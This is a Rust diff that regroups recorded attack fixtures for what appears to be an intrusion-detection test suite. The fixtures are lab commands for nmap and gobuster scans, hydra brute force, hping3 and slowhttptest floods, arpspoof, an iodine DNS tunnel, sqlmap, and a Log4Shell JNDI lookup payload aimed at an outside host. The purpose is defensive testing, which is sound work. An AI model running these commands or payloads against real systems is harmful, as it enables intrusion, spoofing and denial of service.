@@ -19,6 +19,10 @@ pub(super) struct Recording {
 }
 
 pub(super) fn recordings() -> Vec<Recording> {
+    [scans(), floods(), names_and_tunnels(), weaknesses()].into_iter().flatten().collect()
+}
+
+fn scans() -> Vec<Recording> {
     let scan = || vec![Expect::of("scan.port", Some(ATTACKER), Some(SERVER))];
     vec![
         Recording {
@@ -43,6 +47,28 @@ pub(super) fn recordings() -> Vec<Recording> {
             acts: &[(Side::Outside, "nmap -n -Pn -sS -T4 --max-retries 0 -p445 192.168.20.0/24")],
         },
         Recording {
+            name: "bruteforce.login/positive-recorded-hydra",
+            about: "hydra tries 60 wrong passwords on a real SSH server.",
+            expect: vec![Expect::of("bruteforce.login", Some(ATTACKER), Some(SERVER))],
+            servers: &[(Side::Inside, SSHD)],
+            acts: &[(Side::Outside, HYDRA)],
+        },
+        Recording {
+            name: "scan.web/positive-recorded-gobuster",
+            about: "gobuster tries 300 paths of a web server that has none of them.",
+            expect: vec![Expect::of("scan.web", Some(ATTACKER), Some(SERVER))],
+            servers: &[(Side::Inside, WEB)],
+            acts: &[(
+                Side::Outside,
+                "seq -f page%03g 300 >words; gobuster dir -q -z -u http://192.168.10.5:80/ -w words || true",
+            )],
+        },
+    ]
+}
+
+fn floods() -> Vec<Recording> {
+    vec![
+        Recording {
             name: "flood.syn/positive-recorded-hping3",
             about: "hping3 sends 4000 SYN from a forged source to an SSH server, about 300 a second.",
             expect: vec![Expect::of("flood.syn", None, Some(SERVER))],
@@ -53,12 +79,45 @@ pub(super) fn recordings() -> Vec<Recording> {
             )],
         },
         Recording {
-            name: "bruteforce.login/positive-recorded-hydra",
-            about: "hydra tries 60 wrong passwords on a real SSH server.",
-            expect: vec![Expect::of("bruteforce.login", Some(ATTACKER), Some(SERVER))],
-            servers: &[(Side::Inside, SSHD)],
-            acts: &[(Side::Outside, HYDRA)],
+            name: "flood.volume/positive-recorded-hping3-icmp",
+            about: "hping3 sends 6000 echo requests, about 1000 a second.",
+            expect: vec![Expect::of("flood.volume", None, Some(SERVER))],
+            servers: &[],
+            acts: &[(Side::Outside, "hping3 -q --icmp -i u1000 -c 6000 192.168.10.5 || true")],
         },
+        Recording {
+            name: "flood.slow/positive-recorded-slowhttptest",
+            about: "slowhttptest holds 200 connections of a web server open with headers that never end.",
+            expect: vec![Expect::of("flood.slow", None, Some(SERVER))],
+            servers: &[(Side::Inside, WEB)],
+            acts: &[(
+                Side::Outside,
+                "ulimit -n 4096; slowhttptest -H -c 200 -r 50 -i 5 -l 60 -u http://192.168.10.5/ >log 2>&1 || true",
+            )],
+        },
+        Recording {
+            name: "spoof.arp/positive-recorded-arpspoof",
+            about: "arpspoof tells the server from a second card that it is the router.",
+            expect: vec![Expect::of("spoof.arp", None, None)],
+            servers: &[],
+            acts: &[
+                (
+                    Side::Outside,
+                    "ip link add sk-forged link sk-out type macvlan mode bridge; ip link set sk-forged up; \
+                    ip addr add 192.168.10.77/24 dev sk-forged; ip addr add 192.168.10.1/24 dev sk-out",
+                ),
+                (Side::Inside, "ping -c 3 192.168.10.1; ping -c 2 192.168.10.77"),
+                (
+                    Side::Outside,
+                    "timeout 20 arpspoof -i sk-forged -t 192.168.10.5 192.168.10.1 >log 2>&1 || true",
+                ),
+            ],
+        },
+    ]
+}
+
+fn names_and_tunnels() -> Vec<Recording> {
+    vec![
         Recording {
             name: "dns.tunnel/positive-recorded-iodine",
             about: "iodine carries 20 kB out through DNS names under tunnel.example.",
@@ -84,64 +143,6 @@ pub(super) fn recordings() -> Vec<Recording> {
                 Side::Inside,
                 "for i in $(seq 40); do dig +short www$i.city.example @203.0.113.66; \
                  curl -sk --resolve www$i.city.example:443:203.0.113.66 https://www$i.city.example/ >page; done",
-            )],
-        },
-        Recording {
-            name: "scan.web/positive-recorded-gobuster",
-            about: "gobuster tries 300 paths of a web server that has none of them.",
-            expect: vec![Expect::of("scan.web", Some(ATTACKER), Some(SERVER))],
-            servers: &[(Side::Inside, WEB)],
-            acts: &[(
-                Side::Outside,
-                "seq -f page%03g 300 >words; gobuster dir -q -z -u http://192.168.10.5:80/ -w words || true",
-            )],
-        },
-        Recording {
-            name: "exploit.attempt/positive-recorded-sqlmap",
-            about: "sqlmap looks for a way into a parameter of a web page.",
-            expect: vec![Expect::of("exploit.attempt", Some(ATTACKER), Some(SERVER))],
-            servers: &[(Side::Inside, WEB)],
-            acts: &[(
-                Side::Outside,
-                "HOME=$PWD timeout 60 sqlmap --batch --level 1 --technique BU -u 'http://192.168.10.5/index.html?id=1' \
-                 >log 2>&1 || true",
-            )],
-        },
-        Recording {
-            name: "exploit.attempt/positive-recorded-curl-log4shell",
-            about: "curl sends a look-up for Log4j (CVE-2021-44228) as its User-Agent.",
-            expect: vec![Expect::of("exploit.attempt", Some(ATTACKER), Some(SERVER))],
-            servers: &[(Side::Inside, WEB)],
-            acts: &[(
-                Side::Outside,
-                "for i in $(seq 5); do curl -s -A '${jndi:ldap://203.0.113.66:1389/a}' http://192.168.10.5/ >page; done",
-            )],
-        },
-        Recording {
-            name: "cleartext.credentials/positive-recorded-curl-basic",
-            about: "curl logs in to a web server with a password in clear text.",
-            expect: vec![Expect::of("cleartext.credentials", Some(SERVER), Some(ATTACKER))],
-            servers: &[(Side::Outside, WEB_OUTSIDE)],
-            acts: &[(
-                Side::Inside,
-                "for i in $(seq 4); do curl -s -u clerk:not-a-secret http://203.0.113.66/ >page; done",
-            )],
-        },
-        Recording {
-            name: "flood.volume/positive-recorded-hping3-icmp",
-            about: "hping3 sends 6000 echo requests, about 1000 a second.",
-            expect: vec![Expect::of("flood.volume", None, Some(SERVER))],
-            servers: &[],
-            acts: &[(Side::Outside, "hping3 -q --icmp -i u1000 -c 6000 192.168.10.5 || true")],
-        },
-        Recording {
-            name: "flood.slow/positive-recorded-slowhttptest",
-            about: "slowhttptest holds 200 connections of a web server open with headers that never end.",
-            expect: vec![Expect::of("flood.slow", None, Some(SERVER))],
-            servers: &[(Side::Inside, WEB)],
-            acts: &[(
-                Side::Outside,
-                "ulimit -n 4096; slowhttptest -H -c 200 -r 50 -i 5 -l 60 -u http://192.168.10.5/ >log 2>&1 || true",
             )],
         },
         Recording {
@@ -182,6 +183,42 @@ pub(super) fn recordings() -> Vec<Recording> {
                 "for i in $(seq 50); do curl -s -d id=17 http://203.0.113.66:8080/poll >page; sleep 3; done",
             )],
         },
+    ]
+}
+
+fn weaknesses() -> Vec<Recording> {
+    vec![
+        Recording {
+            name: "exploit.attempt/positive-recorded-sqlmap",
+            about: "sqlmap looks for a way into a parameter of a web page.",
+            expect: vec![Expect::of("exploit.attempt", Some(ATTACKER), Some(SERVER))],
+            servers: &[(Side::Inside, WEB)],
+            acts: &[(
+                Side::Outside,
+                "HOME=$PWD timeout 60 sqlmap --batch --level 1 --technique BU -u 'http://192.168.10.5/index.html?id=1' \
+                 >log 2>&1 || true",
+            )],
+        },
+        Recording {
+            name: "exploit.attempt/positive-recorded-curl-log4shell",
+            about: "curl sends a look-up for Log4j (CVE-2021-44228) as its User-Agent.",
+            expect: vec![Expect::of("exploit.attempt", Some(ATTACKER), Some(SERVER))],
+            servers: &[(Side::Inside, WEB)],
+            acts: &[(
+                Side::Outside,
+                "for i in $(seq 5); do curl -s -A '${jndi:ldap://203.0.113.66:1389/a}' http://192.168.10.5/ >page; done",
+            )],
+        },
+        Recording {
+            name: "cleartext.credentials/positive-recorded-curl-basic",
+            about: "curl logs in to a web server with a password in clear text.",
+            expect: vec![Expect::of("cleartext.credentials", Some(SERVER), Some(ATTACKER))],
+            servers: &[(Side::Outside, WEB_OUTSIDE)],
+            acts: &[(
+                Side::Inside,
+                "for i in $(seq 4); do curl -s -u clerk:not-a-secret http://203.0.113.66/ >page; done",
+            )],
+        },
         Recording {
             name: "ssh.anomaly/positive-recorded-ssh-sha1",
             about: "ssh agrees on a key exchange with SHA-1 and 1024 bits.",
@@ -214,24 +251,6 @@ pub(super) fn recordings() -> Vec<Recording> {
                 "for i in 1 2 3; do ssh -p 443 -o BatchMode=yes -o StrictHostKeyChecking=no \
                  -o UserKnownHostsFile=/dev/null nobody@203.0.113.66 || true; done",
             )],
-        },
-        Recording {
-            name: "spoof.arp/positive-recorded-arpspoof",
-            about: "arpspoof tells the server from a second card that it is the router.",
-            expect: vec![Expect::of("spoof.arp", None, None)],
-            servers: &[],
-            acts: &[
-                (
-                    Side::Outside,
-                    "ip link add sk-forged link sk-out type macvlan mode bridge; ip link set sk-forged up; \
-                    ip addr add 192.168.10.77/24 dev sk-forged; ip addr add 192.168.10.1/24 dev sk-out",
-                ),
-                (Side::Inside, "ping -c 3 192.168.10.1; ping -c 2 192.168.10.77"),
-                (
-                    Side::Outside,
-                    "timeout 20 arpspoof -i sk-forged -t 192.168.10.5 192.168.10.1 >log 2>&1 || true",
-                ),
-            ],
         },
     ]
 }
